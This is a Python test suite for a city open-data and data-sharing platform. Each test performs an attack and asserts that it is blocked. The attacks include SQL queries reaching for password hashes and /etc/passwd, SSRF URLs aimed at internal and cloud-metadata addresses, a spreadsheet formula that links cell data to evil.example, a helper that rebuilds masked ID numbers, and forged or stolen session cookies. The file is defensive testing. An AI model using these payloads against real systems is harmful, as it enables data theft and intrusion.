"""Attacks on the platform, each the probe's own (issue 15) or one of its class, performed here
and expected to get nothing. Every guard is tested by the attack it stops: take the guard out
and its test fails."""

from __future__ import annotations

import io
import json
import re
import stat
import zipfile
from datetime import date, timedelta
from pathlib import Path

import orjson
import polars as pl
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text

from citydata.accounts.models import SiteSetting
from citydata.app import create_app
from citydata.audit import service as audit
from citydata.audit.models import AuditEntry
from citydata.catalog.service import import_catalog
from citydata.config import Limits, Settings
from citydata.ingest.service import ingest
from citydata.opendata import sql as open_sql
from citydata.opendata import sqlguard
from citydata.opendata.service import Catalogue, OpenDataError
from citydata.opendata.sqlguard import READER_ROLE, Guard, GuardUnavailable
from citydata.share import service
from citydata.share.models import ShareApplication, ShareSubscription
from conftest import PG_URL, fixed_clock, make_user
from sharing import (
    FIELDS,
    PEOPLE,
    apply,
    approve,
    call,
    credential,
    granted,
    user,
)

LEGAL = "101002/00001"  # 普遍开放 (open data) and 无条件共享
EVENTS = "101007/00001"  # 有条件开放
HOUSEHOLD_CLASS = "101001/00001"  # 不予开放, personal


def _file(city: Path, code: str) -> Path:
    manifest = json.loads((city / "manifest.json").read_text(encoding="utf-8"))
    entry = next(
        f for f in manifest["files"] if f["class_code"] == code and f["expect"] == "accept"
    )
    return city / entry["path"]


@pytest.fixture
def portal(store, demo_catalog):
    """The demo catalog with an open, a conditionally open and a closed class's data staged,
    and one administrator (whose password hash sits in ``users``)."""
    city = demo_catalog.parent
    with store.session() as session:
        import_catalog(session, demo_catalog)
    for code in (LEGAL, EVENTS, HOUSEHOLD_CLASS):
        assert ingest(store, _file(city, code), code).status == "committed"
    make_user(store)
    return store


@pytest.fixture
def open_api(portal):
    app = create_app(portal, Settings(database_url=portal.url, secret_key="test-secret"))
    with TestClient(app) as c:
        yield c


def sql(client, statement: str, **headers):
    response = client.post(
        "/api/3/action/datastore_search_sql",
        content=orjson.dumps({"sql": statement}),
        headers=headers,
    )
    return response.status_code, response.json()


# ---------------------------------------------------------------- 1. the SQL endpoint

# Each tries to read something that is no open dataset: the session key, password hashes,
# personal data, raw staging tables, the system catalogs. Scope tricks first (the probe's
# CTE in a nested scope), then the classic ones.
SCOPE_TRICKS = [
    'SELECT "key", value FROM site_settings WHERE EXISTS '
    "(WITH site_settings AS (SELECT 1) SELECT 1 FROM site_settings)",
    "SELECT username, password_hash FROM users WHERE EXISTS "
    "(WITH users AS (SELECT 1) SELECT 1 FROM users)",
    "WITH users AS (SELECT * FROM users) SELECT * FROM users",
    "WITH RECURSIVE users AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM users WHERE n < 2) "
    "SELECT * FROM users, api_tokens",
    "WITH a AS (SELECT 1), b AS (SELECT * FROM stg_101001_00001) SELECT * FROM b",
    'SELECT * FROM (SELECT * FROM stg_101001_00001) AS "101002-00001-csv"',
    'SELECT * FROM "101002-00001-csv" AS users, stg_101001_00001',
    'SELECT (SELECT legal_rep_id FROM stg_101002_00001 LIMIT 1) FROM "101002-00001-csv"',
    "SELECT * FROM share_subscriptions",
    "SELECT * FROM base_population",
    'SELECT * FROM "101007-00001-csv"',  # 有条件开放: not released to an anonymous caller
    "SELECT name FROM sqlite_master",
    "SELECT * FROM pg_catalog.pg_user",
    "SELECT * FROM pg_shadow",
    "SELECT pg_read_file('/etc/passwd')",
]


@pytest.mark.parametrize("statement", SCOPE_TRICKS)
def test_sql_reads_nothing_outside_the_callers_datasets(open_api, portal, statement):
    status, body = sql(open_api, statement)
    assert status == 409 and body["success"] is False and "result" not in body, body
    text_ = orjson.dumps(body).decode()
    with portal.session() as session:
        hashes = session.scalars(text("SELECT password_hash FROM users")).all()
    assert hashes and not any(h in text_ for h in hashes)


def _guard(store) -> Guard:
    return Guard(store.engine)


def _datasets(store):
    with store.session() as session:
        return Catalogue(store).datasets(session)


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM {p}users",
        "SELECT count(*) FROM {p}users",
        "SELECT value FROM {p}site_settings",
        "SELECT legal_rep_id FROM {p}stg_101002_00001",
        "SELECT * FROM {p}stg_101001_00001",
        "WITH v AS (SELECT password_hash FROM {p}users) SELECT * FROM v",
    ],
)
def test_the_database_refuses_what_the_parser_might_let_through(portal, statement):
    """The parser is only a first filter: hand the guarded connection raw SQL, as if the parser
    had been fooled, and the database itself refuses to read outside the datasets' views."""
    datasets = _datasets(portal)
    legal = open_sql.exposure(datasets["101002-00001"])
    guard = _guard(portal)
    # On PostgreSQL the reader's search_path holds only the views: name the real schema.
    statement = statement.format(p="public." if guard.dialect == "postgresql" else "")
    with pytest.raises(Exception) as refused, guard.reader([legal], 5.0) as run:
        run(statement, 10)
    assert sqlguard.refused(refused.value), refused.value


def test_the_guarded_connection_reads_its_views_and_cannot_write(portal):
    datasets = _datasets(portal)
    legal = open_sql.exposure(datasets["101002-00001"])
    guard = _guard(portal)
    view = legal.qualified(guard.dialect)
    with guard.reader([legal], 5.0) as run:
        names, rows = run(f"SELECT count(*) FROM {view}", 10)
    assert rows[0][0] == datasets["101002-00001"].rows > 0
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run(f"DELETE FROM {view}", 10)
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run("CREATE TABLE x (a int)", 10)
    # Withheld fields are not in the view at all.
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run(f"SELECT legal_rep_id FROM {view}", 10)


@pytest.mark.skipif(not PG_URL, reason="PostgreSQL only: the reader role")
def test_postgres_user_sql_runs_as_a_role_of_its_own(portal):
    datasets = _datasets(portal)
    legal = open_sql.exposure(datasets["101002-00001"])
    events = open_sql.exposure(datasets["101007-00001"])
    guard = _guard(portal)
    with guard.reader([legal], 5.0) as run:
        _, rows = run("SELECT current_user, current_setting('search_path')", 10)
    assert rows[0] == (READER_ROLE, "open_sql")
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run("SELECT usename FROM pg_shadow", 10)
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run("SELECT pg_read_file('/etc/passwd')", 10)
    with pytest.raises(Exception), guard.reader([legal], 5.0) as run:  # noqa: B017
        run("SELECT set_config('role', 'postgres', false); SELECT * FROM users", 10)
    # A 有条件开放 view shows rows only while released to this very connection.
    guard.ensure([events])
    with guard.reader([legal], 5.0) as run:
        _, rows = run(f"SELECT count(*) FROM {events.qualified('postgresql')}", 10)
    assert rows[0][0] == 0
    with guard.reader([events], 5.0) as run:
        _, rows = run(f"SELECT count(*) FROM {events.qualified('postgresql')}", 10)
    assert rows[0][0] == datasets["101007-00001"].rows > 0


def test_conditional_data_is_read_by_sql_only_by_the_user_it_was_released_to(portal, open_api):
    released, other = make_user(portal, "reader1", "public"), make_user(portal, "reader2", "public")
    with portal.session() as session:
        app = service.apply_open(
            session,
            user(portal, "reader1"),
            class_code=EVENTS,
            purpose="研究",
            valid_until=date.today() + timedelta(days=30),
        )
        service.decide(session, user(portal, "admin"), app.id, "approve")
    statement = 'SELECT count(*) AS n FROM "101007-00001-csv"'
    assert sql(open_api, statement)[0] == 409
    assert sql(open_api, statement, Authorization=other)[0] == 409
    status, body = sql(open_api, statement, Authorization=released)
    assert status == 200 and body["result"]["records"][0]["n"] > 0
    # The release is one user's: another signed-in user reads nothing of it elsewhere either.
    search = open_api.post(
        "/api/3/action/datastore_search",
        content=orjson.dumps({"resource_id": "101007-00001-csv"}),
        headers={"Authorization": other},
    )
    assert search.status_code == 403 and "records" not in search.text


def test_the_sql_endpoint_refuses_to_run_without_a_guard(portal, monkeypatch):
    datasets = _datasets(portal)

    def unavailable(*_args, **_kwargs):
        raise GuardUnavailable("SQL 查询未启用")

    monkeypatch.setattr(Guard, "reader", unavailable)
    with portal.session() as session, pytest.raises(OpenDataError) as refused:
        open_sql.run(session, datasets, 'SELECT * FROM "101002-00001-csv"')
    assert refused.value.status == 503


# ---------------------------------------------------------------- 1. secrets off the data path


def test_no_secret_lives_in_the_database_and_cookies_cannot_be_forged(store, tmp_path):
    settings = Settings(database_url=store.url, data_dir=tmp_path / "data")
    app = create_app(store, settings)
    key_file = tmp_path / "data" / "secret.keys"
    assert key_file.exists() and stat.S_IMODE(key_file.stat().st_mode) == 0o600
    with store.session() as session:
        assert session.get(SiteSetting, "secret_key") is None
        stored = " ".join(v for (v,) in session.execute(select(SiteSetting.value)))
    assert not any(k in stored for k in app.state.keys.keys)
    make_user(store)
    # A cookie signed with any other key (the old one kept in the database, a guess) is junk.
    import itsdangerous

    forged = itsdangerous.TimestampSigner("test-secret").sign(
        __import__("base64").b64encode(b'{"sid": "x", "user_id": 1}')
    )
    with TestClient(app) as client:
        client.cookies.set("citydata_session", forged.decode())
        assert client.get("/base/population", follow_redirects=False).status_code == 303


def test_webhook_signing_secrets_are_encrypted_at_rest(city, people, app):
    with TestClient(app) as api:
        headers = granted(city)
        made = call(api, headers, "subscriptions", {"url": "https://hooks.example.org/x"})
    assert made.status_code == 200, made.text
    secret = made.json()["signing_secret"]
    with city.session() as session:
        stored = session.scalar(select(ShareSubscription.signing_secret))
    assert secret not in stored and stored.startswith("fernet:")
    assert app.state.keys.decrypt(stored) == secret


@pytest.fixture(autouse=True)
def _public_dns(monkeypatch):
    """hooks.example.org resolves to a public address (no network here)."""
    import socket

    real = socket.getaddrinfo

    def fake(host, port, *args, **kwargs):
        if host == "hooks.example.org":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", port))]
        if host == "rebind.example.org":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (fake.rebind, port))]
        return real(host, port, *args, **kwargs)

    fake.rebind = "93.184.216.35"
    monkeypatch.setattr(socket, "getaddrinfo", fake)
    return fake


# ---------------------------------------------------------------- 2. rejected values


def test_batches_and_their_rejected_values_belong_to_the_unit(store, sample_catalog, tmp_path):
    from test_ingest import POP, people_frame

    app = create_app(store, Settings(database_url=store.url, secret_key="test-secret"))
    own = make_user(store, "ga", "steward", "csga")
    colleague = make_user(store, "ga2", "consumer", "csga")
    other = make_user(store, "jy", "steward", "csjy")
    public = make_user(store, "someone", "public")
    admin = make_user(store, "admin2", "admin")
    bad = ("11010519491231003X", "乙", "女", "1949-12-31", "汉族", "430102", None, None)
    path = tmp_path / "p.csv"
    path.write_bytes(people_frame([bad]).write_csv().encode("gbk"))
    batch = ingest(store, path, POP, "csga").batch_id
    with TestClient(app) as client:
        as_ = {
            n: {"Authorization": f"Bearer {t}"}
            for n, t in locals().items()
            if n in {"own", "colleague", "other", "public", "admin"}
        }
        detail = f"/api/v1/batches/{batch}"
        assert client.get(detail).status_code == 401
        assert client.get("/api/v1/batches").status_code == 401
        for outsider in ("other", "public"):
            assert client.get(detail, headers=as_[outsider]).status_code == 403
            assert (
                "11010519491231003X"
                not in client.get(f"/batches/{batch}", headers=as_[outsider]).text
            )
        assert client.get("/api/v1/batches", headers=as_["public"]).status_code == 403
        assert client.get("/api/v1/batches", headers=as_["other"]).json()["count"] == 0
        assert client.get(f"/batches/{batch}", follow_redirects=False).status_code == 303
        for insider in ("own", "colleague", "admin"):
            shown = client.get(detail, headers=as_[insider]).json()["rejections"]
            assert shown and all(r["value"] != "11010519491231003X" for r in shown)
            assert (
                "11010519491231003X"
                not in client.get(f"/batches/{batch}", headers=as_[insider]).text
            )
        # the raw values, to fix and resend: the unit's steward, and the read is on record
        assert client.get(f"{detail}/rejects.csv", headers=as_["colleague"]).status_code == 403
        raw = client.get(f"{detail}/rejects.csv", headers=as_["own"])
        assert "11010519491231003X" in raw.content.decode("utf-8-sig")
    with store.session() as session:
        actions = session.scalars(
            select(AuditEntry.action).where(AuditEntry.end_user == "ga")
        ).all()
    assert "export_rejects" in actions and "read_rejects" in actions


# ---------------------------------------------------------------- 3. masks judged jointly


def _rebuild_id(record: dict) -> str | None:
    """What an attacker makes of a masked ID number and whatever else the record shows."""
    from stdnum.cn import ric

    masked = record.get("id_number")
    if not masked or len(masked) != 18:
        return None
    digits = list(masked)
    birth = record.get("birth_date") or ""
    if re.fullmatch(r"\d{4}-\d{2}-\d{2}", birth):
        digits[6:14] = birth.replace("-", "")
    elif re.fullmatch(r"\d{4}-\*\*-\*\*", birth):
        digits[6:10] = birth[:4]
    division = record.get("division") or ""
    if re.fullmatch(r"\d{6}", division):
        digits[0:6] = division
    if "*" in digits[:17]:
        return None
    body = "".join(digits[:17])
    return body + ric.calc_check_digit(body + "0")  # it ignores the last character


def test_three_queries_no_longer_rebuild_every_id_number(city, api):
    """The probe's attack: masked ID numbers beside clear birth dates."""
    headers = granted(city)
    found = call(api, headers, "query", {"fields": ["id_number", "birth_date", "sex", "division"]})
    records = found.json()["records"]
    assert len(records) == len(PEOPLE)
    rebuilt = {_rebuild_id(r) for r in records} - {None}
    assert not rebuilt & {p[0] for p in PEOPLE}
    # Asking for the ID number alone does not help: the grant is judged as a whole.
    alone = call(api, headers, "query", {"fields": ["id_number"]}).json()["records"]
    merged = [{**a, **b} for a, b in zip(alone, records, strict=True)]
    assert not {_rebuild_id(r) for r in merged} & {p[0] for p in PEOPLE}


@pytest.fixture
def api(app, people):
    with TestClient(app) as c:
        yield c


def test_an_approval_that_would_give_a_masked_field_away_is_refused(city, people, monkeypatch):
    """A clear field that tells a masked one whole: the approver must grant both or neither."""
    from types import SimpleNamespace

    from citydata.privacy.masking import Field, joint_masks
    from citydata.share.service import ShareError

    # a house code locates the house, whose address the housing base publishes
    fields = [Field("address", "address"), Field("house_code", "division_head")]
    assert joint_masks(fields, {"address": "address"}) == {
        "address": "address",
        "house_code": "division_head",
    }
    # an ID number in clear is the birth date: a masked birth date beside it is theatre
    person = SimpleNamespace(
        code="X/1",
        fields=[
            SimpleNamespace(name="id_number", rules=["id_number"], sensitivity="sensitive"),
            SimpleNamespace(name="birth_date", rules=[], sensitivity="personal"),
        ],
    )
    monkeypatch.setattr(service, "get_class", lambda _session, _code: person)
    with city.session() as session:
        with pytest.raises(ShareError, match="暴露"):
            service._check_joint(session, "X/1", ["id_number", "birth_date"], ["id_number"])
        service._check_joint(
            session, "X/1", ["id_number", "birth_date"], ["id_number", "birth_date"]
        )
        service._check_joint(session, "X/1", ["id_number", "birth_date"], [])


# ---------------------------------------------------------------- 4. filters and verify


@pytest.mark.parametrize(
    "condition",
    [
        {"phone": {"in": ["13812345678", "13900001111"]}},
        {"phone": {"prefix": "138"}},
        {"phone": {"lt": "139"}},
        {"phone": {"gt": "138"}},
        {"id_number": {"prefix": "4301021990"}},
        {"name": "张三"},
    ],
)
def test_filters_on_masked_fields_are_no_oracle(city, api, condition):
    headers = granted(city)
    found = call(api, headers, "query", {"fields": ["sex"], "filters": condition})
    assert found.status_code == 403 and found.json()["error"]["code"] == "filter_on_masked"
    assert "records" not in found.json()


def test_filters_on_fields_delivered_in_clear_still_work(city, api):
    headers = granted(city, unmasked=["phone"])
    found = call(
        api, headers, "query", {"fields": ["sex"], "filters": {"phone": {"prefix": "138"}}}
    )
    assert found.status_code == 200 and found.json()["records"] == [{"sex": "男"}]


def test_verify_checks_one_candidate_of_granted_fields_and_counts(city, api):
    headers = granted(city, fields=["id_number", "name"])
    key = PEOPLE[0][0]
    many = call(api, headers, "verify", {"key": key, "fields": {"name": ["张三", "李四"]}})
    assert many.status_code == 400 and many.json()["error"]["code"] == "bad_claims"
    never = call(api, headers, "verify", {"key": key, "fields": {"phone": "13812345678"}})
    assert never.status_code == 403 and "result" not in never.json()
    ok = call(api, headers, "verify", {"key": key, "fields": {"name": "张三"}})
    assert ok.json()["result"] == {"name": "一致"}
    with city.session() as session:
        outcomes = session.scalars(
            select(AuditEntry.outcome).where(AuditEntry.action == "verify").order_by(AuditEntry.id)
        ).all()
    assert outcomes == ["bad_claims", "field_not_granted", "ok"]


# ---------------------------------------------------------------- 5. review pairs


def test_review_pairs_only_to_the_rows_stewards_and_admins(city, people, app):
    from citydata.bases.models import MatchReview

    with city.session() as session:
        master = session.execute(text("SELECT master_id FROM base_population LIMIT 1")).scalar()
        batch = session.execute(text("SELECT max(_batch_id) FROM stg_101001_00001")).scalar()
        session.add(
            MatchReview(
                base="population",
                batch_id=batch,
                row=1,
                class_code=HOUSEHOLD_CLASS,
                master_id=master,
                probability=0.9,
            )
        )
    tokens = {
        "public": make_user(city, "citizen", "public"),
        "auditor": make_user(city, "aud", "auditor"),
        "consumer": make_user(city, "mz2", "consumer", "csmz"),
    }
    url = "/api/v1/base/population/reviews"
    with TestClient(app) as client:
        for name, token in tokens.items():
            answer = client.get(url, headers={"Authorization": f"Bearer {token}"})
            assert answer.status_code == 403, name
            page = client.get(
                "/base/population/reviews", headers={"Authorization": f"Bearer {token}"}
            )
            assert page.status_code == 403 and PEOPLE[0][1] not in page.text
        assert client.get(url, headers=people["bureau"]).json() == []  # not the rows' unit
        shown = client.get(url, headers=people["police"]).json()  # 市公安局 sent the row
        assert len(shown) == 1 and shown[0]["master"]
        assert len(client.get(url, headers=people["admin"]).json()) == 1


# ---------------------------------------------------------------- 6. webhook URLs (SSRF)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:5432/",
        "http://localhost:8000/admin",
        "http://[::1]/",
        "http://10.0.0.7/hook",
        "http://192.168.1.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://0.0.0.0:22/",
        "http://[::ffff:127.0.0.1]/",
        "http://no-such-host.invalid/",
        "http://user:pw@hooks.example.org/",
    ],
)
def test_webhooks_never_point_inside(city, people, app, url):
    with TestClient(app) as api:
        made = call(api, granted(city), "subscriptions", {"url": url})
    assert made.status_code == 400 and made.json()["error"]["code"] in {
        "url_not_allowed",
        "bad_url",
    }
    with city.session() as session:
        assert session.scalar(select(func.count()).select_from(ShareSubscription)) == 0


def test_a_name_that_resolves_inside_later_gets_nothing_and_learns_nothing(
    city, people, app, _public_dns, tmp_path
):
    from citydata.keys import Keys
    from citydata.share import webhooks
    from sharing import add_person

    with TestClient(app) as api:
        assert (
            call(
                api, granted(city), "subscriptions", {"url": "http://rebind.example.org/h"}
            ).status_code
            == 200
        )
    _public_dns.rebind = "127.0.0.1"  # the name now points at the server itself
    add_person(
        city, tmp_path, ("430102200001011233", "王五", "男", "2000-01-01", "430102", "芙蓉区", None)
    )
    sent = []
    report = webhooks.dispatch(city, keys=Keys(("test-secret",)))
    assert report.failed == 1 and sent == []
    with city.session() as session:
        status = session.scalar(select(ShareSubscription.last_status))
    assert status.startswith("未送达") and "refused" not in status and "127.0.0.1" not in status


def test_notices_connect_to_the_address_that_was_checked(monkeypatch):
    from citydata.mechanisms import webhooks

    connected = []

    class Recorder:
        def __init__(self, host, port, timeout):
            connected.append((host, port))

        def request(self, *args):
            raise OSError("connection refused by 93.184.216.34")

        def close(self):
            pass

    monkeypatch.setattr(webhooks.http.client, "HTTPConnection", Recorder)
    delivered, status = webhooks.post("http://hooks.example.org:8080/x", b"{}", {})
    assert connected == [("93.184.216.34", 8080)]
    assert (delivered, status) == (False, "未送达")  # no low-level error is echoed


# ---------------------------------------------------------------- 7. the audit chain


def test_odd_request_bodies_cannot_poison_the_audit_chain(city, api):
    headers = granted(city)
    body = {"keys": [PEOPLE[0][0]], "fields": ["sex"]}
    poisoned = [
        {**body, "class_code": 5},
        {**body, "class_code": ["x"]},
        {**body, "class_code": {"a": [1, 2**80]}},
        {"keys": [2**70], "fields": ["sex"]},
        {"keys": ["x" * 10_000], "fields": ["sex"]},
        {**body, "cursor": [[1]]},
    ]
    with city.session() as session:
        before = session.scalar(select(func.count()).select_from(AuditEntry))
    for attempt in poisoned:
        answer = call(api, headers, "query" if "cursor" in attempt else "lookup", attempt)
        assert 400 <= answer.status_code < 500, (attempt, answer.text)
    with city.session() as session:
        after = session.scalar(select(func.count()).select_from(AuditEntry))
        report = audit.verify(session)
    assert after == before + len(poisoned)  # every call is on record ...
    assert report.ok, report.problems  # ... and the chain still verifies


def test_one_bad_entry_does_not_fail_the_others_in_its_group(city):
    import threading

    log = audit.AuditLog(city)
    good = audit.people_read(username="u", unit_code=None, action="read", class_code=None, query={})
    original = log.commit
    failed_once = threading.Event()

    def commit(entries):
        if any(e.get("case_id") == "poison" for e in entries):
            failed_once.set()
            raise RuntimeError("cannot store this one")
        return original(entries)

    log.commit = commit
    entries = [
        {**good, "request_id": f"r{i}", "case_id": "poison" if i == 3 else ""} for i in range(8)
    ]
    futures = [log.submit(e) for e in entries]
    outcomes = []
    for f in futures:
        try:
            outcomes.append(f.result(timeout=30))
        except Exception:
            outcomes.append("failed")
    assert failed_once.is_set()
    assert outcomes.count("failed") == 1 and outcomes[3] == "failed"
    with city.session() as session:
        stored = session.scalars(select(AuditEntry.outcome)).all()
    assert stored.count("ok") == 7 and "audit_failed" in stored  # still on record


# ---------------------------------------------------------------- 8. forwarded headers


def test_forwarded_for_is_believed_only_from_a_configured_proxy(city, people):
    app_id = apply(city)
    approve(city, app_id)
    headers = credential(city, app_id, ip_allow=["10.0.0.0/8"])
    body = {"keys": [PEOPLE[0][0]], "fields": ["sex"]}
    spoof = {"X-Forwarded-For": "10.1.2.3"}
    plain = create_app(city, Settings(database_url=city.url, secret_key="t"))
    with TestClient(plain) as api:  # TestClient's peer is "testclient": not a proxy of ours
        assert call(api, headers, "lookup", body, **spoof).status_code == 403
    proxied = create_app(
        city, Settings(database_url=city.url, secret_key="t", trusted_proxies=("127.0.0.0/8",))
    )
    with TestClient(proxied, client=("127.0.0.1", 5555)) as api:
        assert call(api, headers, "lookup", body, **spoof).status_code == 200
        # a client's own X-Forwarded-For in front of the proxy's counts for nothing
        chained = {"X-Forwarded-For": "10.9.9.9, 203.0.113.5"}
        assert call(api, headers, "lookup", body, **chained).status_code == 403
    with city.session() as session:
        last = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (last.client_ip, last.peer_ip) == ("203.0.113.5", "127.0.0.1")


def test_the_open_data_limit_cannot_be_dodged_by_rotating_headers(portal):
    app = create_app(
        portal,
        Settings(database_url=portal.url, secret_key="s", open_rate_per_minute=3),
        clock=fixed_clock,
    )
    with TestClient(app) as client:
        codes = [
            client.get(
                "/api/3/action/package_list", headers={"X-Forwarded-For": f"198.51.100.{i}"}
            ).status_code
            for i in range(5)
        ]
    assert codes == [200, 200, 200, 429, 429]


# ---------------------------------------------------------------- 9. automatic approval


@pytest.mark.parametrize(
    ("fields", "unmasked", "days", "volume", "automatic"),
    [
        (["credit_code", "name"], [], 365, 10_000, True),
        (["credit_code", "legal_rep"], [], 365, 10_000, True),  # personal, masked: fine
        (["credit_code", "legal_rep_id"], [], 365, 10_000, False),  # sensitive
        (["credit_code", "legal_rep"], ["legal_rep"], 365, 10_000, False),  # in clear
        (["credit_code", "name"], [], 365 * 80, 10_000, False),  # until 2099
        (["credit_code", "name"], [], 365, 10**8, False),  # 10^8 calls a day
    ],
)
def test_unconditional_sharing_approves_only_the_ordinary_case(
    city, people, fields, unmasked, days, volume, automatic
):
    with city.session() as session:
        app = service.apply(
            session,
            user(city, "civil"),
            consumer_code="csmz",
            class_code=LEGAL,
            fields=fields,
            unmasked=unmasked,
            purpose="核查",
            legal_basis="职责",
            system_name="系统",
            valid_until=date.today() + timedelta(days=days),
            daily_volume=volume,
        )
        assert (app.status == "approved") is automatic
        if not automatic:
            assert app.status == "pending" and app.granted_unmasked == [] and app.due_date


# ---------------------------------------------------------------- 10. formulas in files


def test_downloads_carry_values_never_formulas(store, demo_catalog, tmp_path):
    with store.session() as session:
        import_catalog(session, demo_catalog)
    source = _file(demo_catalog.parent, LEGAL)
    planted = pl.read_parquet(demo_catalog.parent / "truth/errors.parquet").filter(
        pl.col("class_code") == LEGAL
    )
    frame = pl.read_csv(source, infer_schema=False).with_row_index("_n", offset=1)
    clean = frame.filter(~pl.col("_n").is_in(planted["row"].implode())).drop("_n")
    column = "名称"  # the company's name: an open, text field (headers are the labels)
    evil = ['=HYPERLINK("http://evil.example/"&A1,"点击")', "+SUM(1,2)", "@cmd", "-2+3", "-12.5"]
    frame = clean.head(len(evil)).with_columns(pl.Series(column, evil))
    path = tmp_path / "legal.csv"
    frame.write_csv(path)
    report = ingest(store, path, LEGAL)
    assert report.status == "committed" and report.rows_rejected == 0, report
    app = create_app(store, Settings(database_url=store.url, secret_key="t"))
    with TestClient(app) as client:
        csv_text = client.get("/open/dataset/101002-00001/download.csv").content.decode("utf-8-sig")
        xlsx = client.get("/open/dataset/101002-00001/download.xlsx").content
    rows = list(__import__("csv").reader(io.StringIO(csv_text)))
    at = rows[0].index("name")
    values = [r[at] for r in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/"&A1,"点击")' in values and "-12.5" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values) and "'-2+3" in values
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell anywhere
    with store.session() as session:  # what is stored is what was sent
        stored = session.execute(text("SELECT name FROM stg_101002_00001")).scalars().all()
    assert set(evil) <= set(stored)


# ---------------------------------------------------------------- 11. upload limits


def test_uploads_past_the_limits_are_refused_before_parsing(store, sample_catalog, tmp_path):
    import xlsxwriter

    from test_ingest import POP

    limits = Limits(upload_bytes=200_000)
    app = create_app(store, Settings(database_url=store.url, secret_key="t", limits=limits))
    token = {"Authorization": f"Bearer {make_user(store, 'ga', 'steward', 'csga')}"}
    far = tmp_path / "far.xlsx"
    book = xlsxwriter.Workbook(far)
    sheet = book.add_worksheet()
    sheet.write(0, 0, "id_number")
    sheet.write(1_048_575, 16_383, "x")
    book.close()
    assert far.stat().st_size < 10_000
    with TestClient(app) as client:

        def send(name, content):
            return client.post(
                "/api/v1/batches",
                data={"class": POP},
                files={"file": (name, content)},
                headers=token,
            )

        wide = send("far.xlsx", far.read_bytes())
        assert wide.status_code == 413 and "列" in wide.json()["detail"]
        big = send("big.csv", b"a,b\n" + b"1,2\n" * 60_000)
        assert big.status_code == 413
        odd = send("..", b"id_number\n")
        assert odd.status_code in {201, 422} and odd.status_code != 500
    with store.session() as session:
        assert session.execute(text("SELECT count(*) FROM batches")).scalar() <= 1


# ---------------------------------------------------------------- 12. other people's business


def test_public_users_see_only_their_own_applications_and_no_usage(portal, open_api):
    tokens = {n: make_user(portal, n, "public") for n in ("ann", "bob")}
    with portal.session() as session:
        service.apply_open(
            session,
            user(portal, "ann"),
            class_code=EVENTS,
            purpose="研究",
            valid_until=date.today() + timedelta(days=30),
        )
    seen = {
        n: open_api.get(
            "/api/v1/share/applications", headers={"Authorization": f"Bearer {t}"}
        ).json()
        for n, t in tokens.items()
    }
    assert [a["applicant"] for a in seen["ann"]] == ["ann"] and seen["bob"] == []
    usage = open_api.get(
        "/api/v1/share/usage", headers={"Authorization": f"Bearer {tokens['bob']}"}
    )
    assert usage.status_code == 403


# ---------------------------------------------------------------- low: sign-in and sessions


def _csrf(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def _login(client, username, password="password123"):
    csrf = _csrf(client.get("/login").text)
    return client.post(
        "/login",
        data={"username": username, "password": password, "csrf": csrf},
        follow_redirects=False,
    )


def test_guessing_passwords_is_throttled_even_the_right_one(store, app):
    make_user(store, "zhang", "admin")
    with TestClient(app) as client:
        codes = [_login(client, "zhang", f"wrong-{i}").status_code for i in range(5)]
        assert codes == [401] * 5
        locked = _login(client, "Zhang ", "password123")  # the same name, however typed
        assert locked.status_code == 429 and "分钟后再试" in locked.text
        assert int(locked.headers["Retry-After"]) > 0
    with TestClient(app) as other:  # another name from the same address is not locked yet
        make_user(store, "li", "admin")
        assert _login(other, "li").status_code == 303


def test_a_cookie_copied_before_logout_is_worthless_after_it(store, app):
    make_user(store, "zhang", "admin")
    with TestClient(app) as client:
        assert _login(client, "zhang").status_code == 303
        stolen = client.cookies.get("citydata_session")
        assert client.get("/base/population", follow_redirects=False).status_code == 200
        csrf = _csrf(client.get("/").text)
        client.post("/logout", data={"csrf": csrf}, follow_redirects=False)
    with TestClient(app) as thief:
        thief.cookies.set("citydata_session", stolen)
        assert thief.get("/base/population", follow_redirects=False).status_code == 303


def test_the_cookie_is_secure_when_the_request_was(store):
    trusted = create_app(
        store, Settings(database_url=store.url, secret_key="t", trusted_proxies=("127.0.0.1",))
    )
    with TestClient(trusted, client=("127.0.0.1", 1)) as client:
        over_tls = client.get("/login", headers={"X-Forwarded-Proto": "https"})
        assert "secure" in over_tls.headers["set-cookie"].lower()
        assert "max-age=31536000" in over_tls.headers["strict-transport-security"]
        plain = client.get("/login")
        assert "secure" not in plain.headers["set-cookie"].lower()
    untrusted = create_app(store, Settings(database_url=store.url, secret_key="t"))
    with TestClient(untrusted) as client:  # anyone's X-Forwarded-Proto is not the scheme
        told = client.get("/login", headers={"X-Forwarded-Proto": "https"})
        assert "strict-transport-security" not in told.headers
    with TestClient(untrusted, base_url="https://testserver") as client:
        assert "secure" in client.get("/login").headers["set-cookie"].lower()


def test_pages_send_security_headers_and_run_no_inline_script(store, app):
    with TestClient(app) as client:
        for path in ("/", "/open", "/login", "/catalog"):
            page = client.get(path)
            policy = page.headers["content-security-policy"]
            script = re.search(r"script-src ([^;]+)", policy).group(1)
            assert "'unsafe-inline'" not in script and "frame-ancestors 'none'" in policy
            assert page.headers["x-content-type-options"] == "nosniff"
            assert page.headers["x-frame-options"] == "DENY"
            assert page.headers["referrer-policy"] == "same-origin"
            assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page.text), path
            assert not re.search(r"\son[a-z]+=", page.text), path
            # nor a style attribute: the policy would drop it and the page would draw wrong
            assert not re.search(r"\sstyle=", page.text), path
    import citydata

